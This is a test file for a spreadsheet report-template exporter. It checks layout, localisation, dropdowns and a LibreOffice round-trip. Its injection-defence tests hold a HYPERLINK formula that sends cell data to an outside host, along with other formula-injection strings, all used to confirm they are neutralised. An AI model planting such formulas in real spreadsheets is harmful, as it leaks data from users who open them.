import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { neutraliseCell, restoreCell } from '../../platform/cells.ts';
import { parseReportFile } from './parse.ts';
import { context, productLines, sampleContent, sheetOf } from './sample-report.fixture.ts';
import { writeReportTemplate } from './template.ts';

const input = {
  distributorName: 'Saigon Parts Co.',
  period: '2026-03',
  currency: 'EUR',
  productLines,
};

async function open(buffer: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  // ExcelJS declares its own Buffer type; Node's Buffer is what it reads.
  await workbook.xlsx.load(buffer as unknown as ExcelJS.Buffer);
  return workbook;
}

function hasSoffice(): boolean {
  try {
    execFileSync('soffice', ['--version'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

describe('writeReportTemplate', () => {
  it('lays out one sheet per section with headers, pre-filled product lines and dropdowns', async () => {
    const workbook = await open(await writeReportTemplate({ ...input, locale: 'vi' }));
    // In the reader's language: Vietnamese sheet names and headers.
    expect(workbook.worksheets.map((sheet) => [sheet.name, sheet.state])).toEqual([
      ['Hướng dẫn', 'visible'],
      ['Doanh số', 'visible'],
      ['Tồn kho', 'visible'],
      ['Cơ hội kinh doanh', 'visible'],
      ['Thông tin thị trường', 'visible'],
      ['Hoạt động đối thủ', 'visible'],
      ['Sự hài lòng khách hàng', 'visible'],
      ['Lists', 'hidden'],
    ]);
    const instructions = sheetOf(workbook, 'Hướng dẫn');
    expect(instructions.getCell('B2').value).toBe('Saigon Parts Co.');
    expect(instructions.getCell('B3').value).toBe('2026-03');
    expect(instructions.getCell('B4').value).toBe('EUR');
    expect(instructions.getCell('C3').value).toBe('tháng 3 năm 2026');

    const sales = sheetOf(workbook, 'Doanh số');
    expect(sales.getRow(1).values).toEqual([
      undefined,
      'Mã dòng sản phẩm',
      'Tên dòng sản phẩm',
      'Số lượng bán ra',
      'Doanh thu',
      'Tiền tệ',
    ]);
    expect(sales.getRow(3).values).toEqual([
      undefined,
      'OIL-FLT',
      'Oil filters',
      undefined,
      undefined,
      'EUR',
    ]);
    expect(sales.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sales.getColumn(2).width).toBe(32);
    expect(sales.getCell('D3').numFmt).toBe('#,##0.00');
    expect(sales.getCell('A500').dataValidation).toMatchObject({
      type: 'list',
      formulae: ['Lists!$A$2:$A$4'],
    });
    const pipeline = sheetOf(workbook, 'Cơ hội kinh doanh');
    expect(pipeline.getCell('C2').dataValidation).toMatchObject({
      type: 'list',
      formulae: ['"lead,qualified,proposal,negotiation,won,lost"'],
    });
    expect(pipeline.getCell('F2').numFmt).toBe('yyyy-mm-dd');
    expect(sheetOf(workbook, 'Lists').getCell('A4').value).toBe('WIP-BLD');
  });

  it('exports formula-like text as inert text', async () => {
    const workbook = await open(await writeReportTemplate({ ...input, content: sampleContent }));
    const note = sheetOf(workbook, 'Market intelligence').getCell('A3');
    expect(note.type).toBe(ExcelJS.ValueType.String);
    expect(note.value).toBe('=HYPERLINK("http://example.com/?"&A1,"click")');
    expect(note.numFmt).toBe('@');
    expect(sheetOf(workbook, 'Competitive activity').getCell('E2').type).toBe(
      ExcelJS.ValueType.String,
    );
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+84 28 3823 4567', "'+84 28 3823 4567"],
    ['-15% promotion', "'-15% promotion"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', "'\rcmd"],
    ['Brake pads', 'Brake pads'],
    ["'quoted'", "'quoted'"],
  ])('neutralises %j as %j and restores it on import', (value, written) => {
    expect(neutraliseCell(value)).toBe(written);
    expect(restoreCell(written)).toBe(value);
  });

  // CI installs LibreOffice (.ci/run), so there the test runs or fails; elsewhere it may skip.
  it.skipIf(!hasSoffice() && !process.env.CI)(
    'opens in LibreOffice, which saves a file that reads back the same',
    async () => {
      const folder = mkdtempSync(join(tmpdir(), 'liaison-report-'));
      try {
        const original = join(folder, 'export.xlsx');
        writeFileSync(original, await writeReportTemplate({ ...input, content: sampleContent }));
        const saved = join(folder, 'out');
        execFileSync(
          'soffice',
          [
            `-env:UserInstallation=file://${folder}/profile`,
            '--headless',
            '--convert-to',
            'xlsx',
            '--outdir',
            saved,
            original,
          ],
          { stdio: 'ignore', timeout: 120_000 },
        );
        const result = await parseReportFile(
          readFileSync(join(saved, 'export.xlsx')),
          'export.xlsx',
          context,
        );
        expect(result).toEqual({ ok: true, content: sampleContent });
      } finally {
        rmSync(folder, { recursive: true, force: true });
      }
    },
    150_000,
  );
});
